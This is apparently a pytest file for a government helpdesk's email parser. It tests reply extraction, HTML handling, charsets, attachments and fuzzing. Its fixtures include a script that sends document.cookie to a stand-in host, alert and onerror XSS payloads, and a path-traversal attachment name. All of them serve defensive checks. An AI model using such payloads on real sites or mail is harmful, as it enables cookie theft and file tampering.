"""Reading the OIRS mailbox: raw messages as Gmail, Outlook and mail servers send them."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage
from email.utils import format_datetime

import pytest

from helpdesk.tickets.folios import find_folio
from helpdesk.tickets.inbound.parse import InboundMessage, parse_inbound
from helpdesk.tickets.inbound.robots import is_auto_reply, is_loop

OUR_DOMAIN = "ayuda.migraciones.gob.cl"
OIRS = "oirs@migraciones.gob.cl"
NOTIFICATION_ID = f"<ayu-2026-004567.3@{OUR_DOMAIN}>"
PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


def citizen_mail(
    body: str = "Hola, adjunto lo que me pidieron.",
    *,
    subject: str = "Re: [AYU-2026-004567] Descarga de estampado electrónico",
    sender: str = "José Pérez <Jose.Perez@Gmail.com>",
    **headers: str,
) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = f"OIRS Migraciones <{OIRS}>"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(
        datetime(2026, 3, 2, 11, 40, tzinfo=timezone(timedelta(hours=-3)))
    )
    msg["Message-ID"] = "<CAF=abc123@mail.gmail.com>"
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    msg.set_content(body)
    return msg


def parsed(msg: EmailMessage) -> InboundMessage:
    return parse_inbound(msg.as_bytes())


# --- replies as mail clients quote them ---------------------------------------------------

GMAIL_SPANISH = """\
Muchas gracias. Ya descargué el estampado, pero la fecha de vencimiento
aparece mal.

Saludos,
José

El lun, 2 mar 2026 a las 10:15, OIRS Migraciones (<
oirs@migraciones.gob.cl>) escribió:

> Estimado José:
> Su solicitud AYU-2026-004567 fue respondida.
>
> > Necesito descargar mi estampado.
"""


def test_gmail_reply_in_spanish_keeps_only_the_new_text() -> None:
    msg = citizen_mail(
        GMAIL_SPANISH,
        In_Reply_To=NOTIFICATION_ID,
        References=f"<ayu-2026-004567.1@{OUR_DOMAIN}> {NOTIFICATION_ID}",
    )
    msg.add_alternative(
        "<div dir=ltr>Muchas gracias.</div><div class=gmail_quote>"
        "<blockquote>Estimado José</blockquote></div>",
        subtype="html",
    )

    message = parsed(msg)

    assert message.from_address == "jose.perez@gmail.com"
    assert message.from_name == "José Pérez"
    assert message.to == (OIRS,)
    assert message.subject == "Re: [AYU-2026-004567] Descarga de estampado electrónico"
    assert message.date == datetime(2026, 3, 2, 14, 40, tzinfo=UTC)
    assert message.message_id == "<CAF=abc123@mail.gmail.com>"
    assert message.in_reply_to == NOTIFICATION_ID
    assert message.references == (f"<ayu-2026-004567.1@{OUR_DOMAIN}>", NOTIFICATION_ID)
    assert message.thread_ids == (NOTIFICATION_ID, f"<ayu-2026-004567.1@{OUR_DOMAIN}>")
    assert message.text.startswith("Muchas gracias.")  # text/plain wins over the HTML twin
    assert message.reply_text == (
        "Muchas gracias. Ya descargué el estampado, pero la fecha de vencimiento\n"
        "aparece mal.\n\nSaludos,\nJosé"
    )
    assert message.attachments == ()
    assert find_folio(message.subject, message.text) == "AYU-2026-004567"


def test_outlook_reply_in_english_drops_the_header_block_and_signature() -> None:
    raw = (
        b'From: "Smith, John" <John.Smith@Outlook.com>\r\n'
        b"To: oirs@migraciones.gob.cl\r\n"
        b"Subject: RE: [SIAC-2026-000123] Fine payment\r\n"
        b"Date: Mon, 2 Mar 2026 15:02:11 +0000\r\n"
        b"Message-ID: <DM6PR01MB@namprd01.prod.outlook.com>\r\n"
        b"In-Reply-To: <siac-2026-000123.2@ayuda.migraciones.gob.cl>\r\n"
        b"References: <siac-2026-000123.1@ayuda.migraciones.gob.cl>\r\n"
        b"\t<siac-2026-000123.2@ayuda.migraciones.gob.cl>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: text/plain; charset="us-ascii"\r\n'
        b"Content-Transfer-Encoding: 7bit\r\n"
        b"\r\n"
        b"I paid the fine yesterday; the receipt number is 884-221.\r\n"
        b"\r\n"
        b"-- \r\n"
        b"John Smith\r\n"
        b"+1 555 0100\r\n"
        b"\r\n"
        b"________________________________\r\n"
        b"From: OIRS Migraciones <oirs@migraciones.gob.cl>\r\n"
        b"Sent: Monday, March 2, 2026 10:15 AM\r\n"
        b"To: John Smith <john.smith@outlook.com>\r\n"
        b"Subject: [SIAC-2026-000123] Fine payment\r\n"
        b"\r\n"
        b"Dear John, please pay the fine before filing.\r\n"
    )

    message = parse_inbound(raw)

    assert message.from_address == "john.smith@outlook.com"
    assert message.from_name == "Smith, John"
    assert message.references == (
        "<siac-2026-000123.1@ayuda.migraciones.gob.cl>",
        "<siac-2026-000123.2@ayuda.migraciones.gob.cl>",
    )
    assert message.reply_text == "I paid the fine yesterday; the receipt number is 884-221."
    assert "Dear John" in message.text
    assert find_folio(message.subject, message.text) == "SIAC-2026-000123"
    assert not is_auto_reply(message)


def test_french_reply_with_a_wrapped_attribution() -> None:
    body = (
        "Bonjour,\n\nJe n'ai pas encore reçu mon certificat.\n\nCordialement\nMarie\n\n"
        "Le lun. 2 mars 2026 à 10:15, OIRS Migraciones <oirs@migraciones.gob.cl> a\n"
        "écrit :\n\n> Madame,\n> Votre demande a été reçue.\n"
    )
    message = parsed(citizen_mail(body, sender="Marie Joseph <marie@example.fr>"))

    assert message.reply_text == (
        "Bonjour,\n\nJe n'ai pas encore reçu mon certificat.\n\nCordialement\nMarie"
    )


# --- HTML bodies --------------------------------------------------------------------------


def test_html_only_mail_is_read_as_text_without_script_or_quoted_history() -> None:
    html = """<html><head><title>Hidden title</title>
<style>p { color: red }</style><script>alert("owned")</script></head>
<body><div dir="ltr"><p>Necesito la resoluci&oacute;n &amp; el certificado.</p>
<p>No entiendo el c&oacute;digo &lt;b&gt;RX-1&lt;/b&gt;<br>Gracias</p>
<script type="text/javascript">location = "https://evil.example/" + document.cookie</script>
<img src=x onerror="alert(1)"></div>
<div class="gmail_quote"><div class="gmail_attr">El lun, 2 mar 2026 a las 10:15,
OIRS &lt;oirs@migraciones.gob.cl&gt; escribi&oacute;:<br></div>
<blockquote class="gmail_quote">Estimada Ana:<br>Su solicitud fue recibida.</blockquote></div>
</body></html>"""
    msg = EmailMessage()
    msg["From"] = "ana@example.cl"
    msg["Subject"] = "Certificado"
    msg.set_content(html, subtype="html")

    message = parsed(msg)

    assert "alert" not in message.text and "document" not in message.text
    assert "color" not in message.text and "Hidden title" not in message.text
    assert "Necesito la resolución & el certificado." in message.text
    assert "No entiendo el código <b>RX-1</b>\nGracias" in message.text
    assert "> Estimada Ana:\n> Su solicitud fue recibida." in message.text
    assert message.reply_text == (
        "Necesito la resolución & el certificado.\n\nNo entiendo el código <b>RX-1</b>\nGracias"
    )


def test_empty_text_part_falls_back_to_the_html_alternative() -> None:
    msg = citizen_mail("\n")
    msg.add_alternative("<p>Mi consulta es sobre la <b>multa</b>.</p>", subtype="html")

    assert parsed(msg).text == "Mi consulta es sobre la multa."


# --- attachments, charsets, encoded headers -----------------------------------------------


def test_pdf_attachment_with_an_accented_and_a_hostile_name() -> None:
    msg = citizen_mail("Adjunto mi cédula y el comprobante.")
    msg.add_attachment(
        PDF, maintype="application", subtype="pdf", filename="cédula de identidad.pdf"
    )
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="..\\..\\boot.ini.pdf")
    msg.add_attachment(b"\x89PNG\r\n\x1a\n", maintype="image", subtype="png")

    message = parsed(msg)

    assert message.text == "Adjunto mi cédula y el comprobante."
    assert [(a.filename, a.content_type) for a in message.attachments] == [
        ("cédula de identidad.pdf", "application/pdf"),
        ("boot.ini.pdf", "application/pdf"),
        ("adjunto-3.png", "image/png"),
    ]
    assert message.attachments[0].content == PDF
    filename, content_type, content = message.attachments[1]  # a plain tuple too
    assert (filename, content_type, content) == ("boot.ini.pdf", "application/pdf", PDF)


def test_latin1_subject_and_body_are_decoded() -> None:
    raw = (
        b"From: =?ISO-8859-1?Q?Mar=EDa_Nu=F1ez?= <MARIA@Example.cl>\r\n"
        b"To: oirs@migraciones.gob.cl\r\n"
        b"Subject: =?iso-8859-1?q?Ampliaci=F3n_de_certificado_de_residencia?=\r\n"
        b"  =?iso-8859-1?q?_definitiva_=28menor_de_edad=29?=\r\n"
        b"Content-Type: text/plain; charset=iso-8859-1\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n"
        b"\r\n"
        b"Mi hija naci=F3 en Chile; =BFqu=E9 documento necesito?\r\n"
    )

    message = parse_inbound(raw)

    assert message.from_name == "María Nuñez"
    assert message.from_address == "maria@example.cl"
    assert message.subject == "Ampliación de certificado de residencia definitiva (menor de edad)"
    assert message.text == "Mi hija nació en Chile; ¿qué documento necesito?"


def test_undeclared_8bit_headers_and_a_wrong_charset_are_recovered() -> None:
    raw = (
        b"From: Jos\xe9 <jose@example.cl>\r\n"
        b"Subject: Solicitud de informaci\xf3n\r\n"
        b"Content-Type: text/plain; charset=x-unknown\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n"
        b"\r\n"
        b"Quisiera saber el estado de mi tr\xc3\xa1mite.\r\n"
    )

    message = parse_inbound(raw)

    assert message.subject == "Solicitud de información"
    assert message.from_name == "José"
    assert message.text == "Quisiera saber el estado de mi trámite."


# --- garbage ------------------------------------------------------------------------------


def _assert_usable(message: InboundMessage) -> None:
    for text in (message.text, message.reply_text, message.subject, message.from_address):
        assert isinstance(text, str)
        assert "\x00" not in text
        text.encode("utf-8")  # no lone surrogates: the database must accept every field
    assert isinstance(is_auto_reply(message), bool)
    assert isinstance(is_loop(message, [OIRS], OUR_DOMAIN), bool)


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x00\xff\xfe\x00garbage\n\n\x89PNG",
        b"no headers at all, just words\r\n",
        b"From: <<<@@@>>>\r\nTo: ,,,;;;\r\nDate: 31 Feb 99999 99:99\r\nMessage-ID: \r\n\r\n",
        b"Subject: =?utf-8?B?broken base64?= =?x-bogus?q?=E9?=\r\n\r\nbody",
        b"Content-Type: multipart/mixed\r\n\r\n--nobody\r\nno boundary declared\r\n",
        b"Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n",
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n\xc3\x28\xa0\xa1 invalid utf-8\x00nul",
        b'Content-Type: application/pdf; name="=?utf-8?q?x?=\r\n\r\n%PDF',
        b"From: a@b\r\n" + b"Received: x\r\n" * 200 + b"\r\nbody",
    ],
)
def test_garbage_never_raises(raw: bytes) -> None:
    _assert_usable(parse_inbound(raw))


def test_random_bytes_and_mangled_messages_never_raise() -> None:
    rng = random.Random(4)
    msg = citizen_mail(GMAIL_SPANISH)
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="cédula.pdf")
    valid = bytearray(msg.as_bytes())
    for _ in range(150):
        _assert_usable(parse_inbound(rng.randbytes(rng.randrange(0, 600))))
        mangled = bytearray(valid)
        for _ in range(rng.randrange(1, 30)):
            mangled[rng.randrange(len(mangled))] = rng.randrange(256)
        _assert_usable(parse_inbound(bytes(mangled[: rng.randrange(len(mangled))])))
